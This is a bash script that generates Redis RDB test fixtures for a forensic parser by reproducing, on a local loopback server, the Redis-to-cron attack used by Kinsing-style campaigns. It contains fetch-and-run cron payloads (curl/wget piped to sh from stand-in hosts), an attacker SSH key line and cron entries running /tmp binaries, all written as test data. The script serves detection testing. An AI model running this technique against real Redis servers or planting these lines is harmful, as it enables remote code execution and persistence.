#!/usr/bin/env bash
# Makes the RDB fixtures of artifact/rdb/testdata and the Redis-written crontab of the linux-autostart tree with a
# real redis-server, exactly as the mass attack does: CONFIG SET dir/dbfilename to a cron location, SET a value that
# is a cron line between newlines, SAVE. The server listens on 127.0.0.1 only, on a free port, in a temp dir, and is
# shut down at the end. Redis 7.0 (Debian bookworm) writes RDB version 10.
#   usage: testdata/images/make-rdb.sh [OUTDIR]     (default: artifact/rdb/testdata)
set -euo pipefail
repo=$(cd "$(dirname "$0")/../.." && pwd)
out=${1:-$repo/artifact/rdb/testdata}
command -v redis-server >/dev/null || { echo "redis-server not installed (apt-get install redis-server)" >&2; exit 1; }
work=$(mktemp -d)
port=$((20000 + RANDOM % 20000))
redis-server --bind 127.0.0.1 --port "$port" --dir "$work" --save '' --appendonly no --daemonize no \
	--protected-mode yes --logfile "$work/log" --enable-protected-configs local >/dev/null &
pid=$!
trap 'kill $pid 2>/dev/null; wait $pid 2>/dev/null; rm -rf "$work"' EXIT
# redis-cli exits 0 on a server error: fail on an ERR reply. Redis 7 protects CONFIG SET dir unless
# enable-protected-configs allows it (older servers, the ones attacked, always allowed it).
cli() { local r; r=$(redis-cli -h 127.0.0.1 -p "$port" "$@"); case $r in ERR*|WRONGTYPE*) echo "redis $*: $r" >&2; exit 1;; esac; }
for _ in $(seq 50); do redis-cli -h 127.0.0.1 -p "$port" ping >/dev/null 2>&1 && break; sleep 0.1; done
ver=$(redis-cli -h 127.0.0.1 -p "$port" info server | sed -n 's/^redis_version:\([0-9.]*\).*/\1/p')

save() { # save NAME: SAVE into $out/NAME
	mkdir -p "$work/d"
	cli CONFIG SET dir "$work/d"
	cli CONFIG SET dbfilename "$1"
	cli SAVE
	cp "$work/d/$1" "$out/$1"
}

# 1. The attack: one string key holding cron lines, as in the Kinsing/WatchDog/TeamTNT Redis route.
cli FLUSHALL
cli SET x $'\n\n* * * * * root curl -fsSL http://x/y.sh|sh\n\n'
save attack.rdb
# 2. The same for a user crontab (no user field) and an SSH key, plus LZF: redis compresses strings over 20 bytes
#    when they shrink, so a repetitive payload comes out LZF-compressed.
cli FLUSHALL
cli SET backup1 $'\n\n*/2 * * * * wget -q -O- http://203.0.113.9/cr.sh | sh\n\n'
cli SET backup2 $'\n\n*/3 * * * * curl -fsSL http://203.0.113.9/cr.sh | sh  # '"$(printf 'pad%.0s' $(seq 40))"$'\n\n'
cli SET ssh $'\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@x\n\n'
save lzf.rdb
# 3. Every value type the parser must skip or read: ints, list (quicklist/listpack), set (intset and listpack), zset,
#    hash, a stream with a consumer group and a pending entry, an expiring key, a second database.
cli FLUSHALL
cli SET n 12345
cli SET big "$(head -c 3000 /dev/zero | tr '\0' 'a')"
cli RPUSH l one two $'\n* * * * * root /tmp/.x/l\n'
cli RPUSH biglist $(seq 1 300)
cli SADD si 1 2 3
cli SADD ss a b c
cli ZADD z 1 a 2.5 b
cli HSET h f1 v1 f2 $'\n* * * * * root /tmp/.x/h\n'
cli XADD st '*' k v
cli XADD st '*' k2 v2
cli XGROUP CREATE st g 0
redis-cli -h 127.0.0.1 -p "$port" XREADGROUP GROUP g c1 COUNT 1 STREAMS st '>' >/dev/null
cli SET e $'\n* * * * * root /tmp/.x/e\n' EX 100000000
cli SELECT 1
redis-cli -h 127.0.0.1 -p "$port" -n 1 SET db1 $'\n* * * * * root /tmp/.x/db1\n' >/dev/null
save types.rdb
echo "redis $ver wrote $(head -c 9 "$out/attack.rdb") into $out"
